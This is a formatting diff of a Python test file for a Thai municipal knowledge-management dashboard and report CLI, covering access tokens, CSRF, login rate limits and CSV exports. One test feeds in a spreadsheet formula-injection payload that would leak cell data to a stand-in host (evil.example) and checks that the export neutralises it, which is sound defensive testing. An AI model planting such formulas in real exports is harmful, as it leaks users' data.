@@ -1,5 +1,6 @@
 """/km and `kmsearch report`: what the committee sees, who may see search
 terms, and that the report's numbers are the ones recorded."""
+
 from __future__ import annotations
 
 import csv
@@ -47,7 +48,7 @@ def test_dashboard_without_token_shows_counts_not_search_terms(make_app, db):
     assert resp.status_code == 200 and 'lang="th"' in body
     assert "ตัวชี้วัดการจัดการความรู้ ปีงบประมาณ 2567" in body and "1 ต.ค. 2566 – 30 ก.ย. 2567" in body
     assert "ร้อยละ 50.0" in body and "2 จาก 3 กอง" in body
-    assert "9 ครั้ง" in body                       # 5 views + 4 searches
+    assert "9 ครั้ง" in body  # 5 views + 4 searches
     assert "ไม่พบเอกสาร 2 ครั้ง" in body
     assert "ดาวอังคาร" not in body and "ภาษีที่ดิน</a></th>" not in body
     assert "KMSEARCH_KM_TOKEN" in body
@@ -61,9 +62,16 @@ def test_dashboard_sections(make_app, db):
     client = app.test_client()
     traffic(app, client)
     body = text(client.get("/km?year=2567"))
-    for heading in ("ตัวชี้วัดตามแผนการจัดการความรู้", "เอกสารในคลังความรู้", "คู่มือการปฏิบัติงาน",
-                    "แผนที่องค์ความรู้ (แบบฟอร์มที่ 1)", "เอกสารที่สร้างและปรับปรุงในปี",
-                    "การเข้าถึงฐานข้อมูลความรู้", "คำค้นและความรู้ที่ยังขาด", "ทำเนียบผู้รู้"):
+    for heading in (
+        "ตัวชี้วัดตามแผนการจัดการความรู้",
+        "เอกสารในคลังความรู้",
+        "คู่มือการปฏิบัติงาน",
+        "แผนที่องค์ความรู้ (แบบฟอร์มที่ 1)",
+        "เอกสารที่สร้างและปรับปรุงในปี",
+        "การเข้าถึงฐานข้อมูลความรู้",
+        "คำค้นและความรู้ที่ยังขาด",
+        "ทำเนียบผู้รู้",
+    ):
         assert heading in body, heading
     assert "ยังไม่มีคู่มือการปฏิบัติงาน:</strong> กองการศึกษา ศาสนาและวัฒนธรรม" in body
     assert 'href="/a/child-center-training"' in body
@@ -75,7 +83,7 @@ def test_dashboard_sections(make_app, db):
 
 def test_year_and_division_parameters(make_app, db):
     client = make_app(USAGE_DB=str(db)).test_client()
-    assert "ปีงบประมาณ 2567" in text(client.get("/km?year=2024"))     # Common Era accepted
+    assert "ปีงบประมาณ 2567" in text(client.get("/km?year=2024"))  # Common Era accepted
     assert "ปีงบประมาณ 2567" in text(client.get("/km?year=๒๕๖๗"))
     assert client.get("/km?year=67").status_code == 400
     assert client.get("/km?division=nowhere").status_code == 400
@@ -109,7 +117,7 @@ def test_token_protects_dashboard_and_shows_search_terms_to_the_committee(make_a
     assert "คำค้นยอดนิยม" in body and "ดาวอังคาร" in body and "ภาษีที่ดิน" in body
     assert "ออกจากระบบ" in body
     csrf = re.search(r'name="csrf" value="([0-9a-f]{64})"', body)[1]
-    assert client.post("/km/logout").status_code == 403                 # as another site's form would
+    assert client.post("/km/logout").status_code == 403  # as another site's form would
     assert client.get("/km?year=2567").status_code == 200
     client.post("/km/logout", data={"csrf": csrf})
     assert client.get("/km?year=2567").status_code == 302
@@ -137,7 +145,7 @@ def test_downloads(make_app, db):
     assert page.startswith("<!doctype html>") and '<html lang="th">' in page
     assert "size: A4" in page and "<script" not in page
     assert "รายงานผลการดำเนินงานตามแผนการจัดการความรู้ ปีงบประมาณ 2567" in page and "กองคลัง" in page
-    assert 'href="http://localhost/a/land-tax-manual"' in page     # links work from the downloaded file
+    assert 'href="http://localhost/a/land-tax-manual"' in page  # links work from the downloaded file
     csv_resp = client.get("/km/report.csv?year=2567", headers=auth)
     assert csv_resp.headers["Content-Type"].startswith("text/csv") and csv_resp.data.startswith(b"\xef\xbb\xbf")
     assert client.get("/km/report.pdf", headers=auth).status_code == 404
@@ -166,14 +174,14 @@ def test_cli_report_numbers_equal_what_was_recorded(make_app, built, db, tmp_pat
     assert f[("การเข้าถึง", "ค้นหาแล้วไม่พบผลลัพธ์", "")] == "2"
     assert f[("ตัวชี้วัด", "จำนวนการเข้าถึงฐานข้อมูลความรู้", "")] == "9"
     assert f[("การอ่านตามบทความ", "คู่มือการจัดเก็บภาษีที่ดินและสิ่งปลูกสร้าง", "")] == "3"
-    assert f[("การอ่านตามส่วนราชการ", "กองคลัง", "กองคลัง")] == "4"      # 3 web + 1 API read of e-GP
+    assert f[("การอ่านตามส่วนราชการ", "กองคลัง", "กองคลัง")] == "4"  # 3 web + 1 API read of e-GP
     assert f[("การเข้าถึงรายเดือน", "มี.ค. 67", "")] == "5"
     assert f[("คำค้นยอดนิยม", "ภาษีที่ดิน", "")] == "2"
     assert f[("คำค้นที่ไม่พบเอกสาร", "ดาวอังคาร", "")] == "2"
     assert f[("ตัวชี้วัด", "ร้อยละของฐานข้อมูลที่เสร็จเรียบร้อย", "")] == "50.0"
 
     ce = CliRunner().invoke(cli, [*args, "--fiscal-year", "2024", "--format", "csv"])
-    assert ce.exit_code == 0 and ce.output == result.output          # 2024 is the same year as 2567
+    assert ce.exit_code == 0 and ce.output == result.output  # 2024 is the same year as 2567
     nxt = csv_figures(CliRunner().invoke(cli, [*args, "--fiscal-year", "2568", "--format", "csv"]).output)
     assert nxt[("การเข้าถึง", "อ่านบทความ", "")] == "1" and nxt[("คำค้นที่ไม่พบเอกสาร", "ดาวอังคาร", "")] == "1"
 
@@ -213,12 +221,42 @@ def test_cli_csv_report_neutralises_a_formula_query(make_app, built, db):
     app = make_app(USAGE_DB=str(db))
     app.extensions["kmsearch.usage"].clock = lambda: IN_2567
     app.test_client().get("/search", query_string={"q": '=HYPERLINK("http://evil.example/?leak="&A1,"x")'})
-    result = CliRunner().invoke(cli, ["report", "--content", built["CONTENT_DIR"], "--index", built["INDEX_DIR"],
-                                      "--usage-db", str(db), "--fiscal-year", "2567", "--format", "csv"])
+    result = CliRunner().invoke(
+        cli,
+        [
+            "report",
+            "--content",
+            built["CONTENT_DIR"],
+            "--index",
+            built["INDEX_DIR"],
+            "--usage-db",
+            str(db),
+            "--fiscal-year",
+            "2567",
+            "--format",
+            "csv",
+        ],
+    )
     rows = list(csv.reader(io.StringIO(result.output.lstrip("\ufeff"))))
-    assert ["คำค้นที่ไม่พบเอกสาร", "'=hyperlink(\"http://evil.example/?leak=\"&a1,\"x\")", "", "1", ""] in rows
-    md = CliRunner().invoke(cli, ["report", "--content", built["CONTENT_DIR"], "--index", built["INDEX_DIR"],
-                                  "--usage-db", str(db), "--fiscal-year", "2567"]).output
+    assert ["คำค้นที่ไม่พบเอกสาร", '\'=hyperlink("http://evil.example/?leak="&a1,"x")', "", "1", ""] in rows
+    md = (
+        CliRunner()
+        .invoke(
+            cli,
+            [
+                "report",
+                "--content",
+                built["CONTENT_DIR"],
+                "--index",
+                built["INDEX_DIR"],
+                "--usage-db",
+                str(db),
+                "--fiscal-year",
+                "2567",
+            ],
+        )
+        .output
+    )
     assert '| =hyperlink\\("http://evil.example/?leak="&amp;a1,"x"\\) | 1 |' in md
 
 
@@ -237,8 +275,7 @@ def test_sign_in_guesses_are_slowed_per_address(make_app, db):
     app.extensions["kmsearch.logins"].clock = lambda: now[0]
     client = app.test_client()
     here, there = {"REMOTE_ADDR": "192.0.2.1"}, {"REMOTE_ADDR": "192.0.2.2"}
-    statuses = [client.post("/km/login", data={"token": f"guess{i}"}, environ_base=here).status_code
-                for i in range(8)]
+    statuses = [client.post("/km/login", data={"token": f"guess{i}"}, environ_base=here).status_code for i in range(8)]
     assert statuses[:5] == [401] * 5 and statuses[6:] == [429, 429]
     refused = client.post("/km/login", data={"token": TOKEN}, environ_base=here)
     assert refused.status_code == 429, "not even the right token while waiting"
@@ -254,8 +291,15 @@ def test_sign_in_guesses_are_slowed_per_address(make_app, db):
 
 def test_behind_trusted_proxies_the_limit_is_per_forwarded_client(make_app, db):
     def guesses(client, forwarded_for):
-        return [client.post("/km/login", data={"token": "wrong"}, environ_base={"REMOTE_ADDR": "10.0.0.1"},
-                            headers={"X-Forwarded-For": forwarded_for}).status_code for _ in range(6)]
+        return [
+            client.post(
+                "/km/login",
+                data={"token": "wrong"},
+                environ_base={"REMOTE_ADDR": "10.0.0.1"},
+                headers={"X-Forwarded-For": forwarded_for},
+            ).status_code
+            for _ in range(6)
+        ]
 
     direct = make_app(USAGE_DB=str(db), KM_TOKEN=TOKEN).test_client()
     assert guesses(direct, "203.0.113.1")[-1] == 429
@@ -264,7 +308,11 @@ def test_behind_trusted_proxies_the_limit_is_per_forwarded_client(make_app, db):
     proxied = make_app(USAGE_DB=str(db), KM_TOKEN=TOKEN, PROXIES=1).test_client()
     assert guesses(proxied, "203.0.113.1")[-1] == 429
     assert guesses(proxied, "203.0.113.2")[0] == 401, "another client behind the same proxy may still sign in"
-    ok = proxied.post("/km/login", data={"token": TOKEN}, environ_base={"REMOTE_ADDR": "10.0.0.1"},
-                      headers={"X-Forwarded-For": "203.0.113.3", "X-Forwarded-Proto": "https"})
+    ok = proxied.post(
+        "/km/login",
+        data={"token": TOKEN},
+        environ_base={"REMOTE_ADDR": "10.0.0.1"},
+        headers={"X-Forwarded-For": "203.0.113.3", "X-Forwarded-Proto": "https"},
+    )
     assert ok.status_code == 303 and "Secure" in ok.headers["Set-Cookie"]
     assert ok.headers["Strict-Transport-Security"].startswith("max-age=")
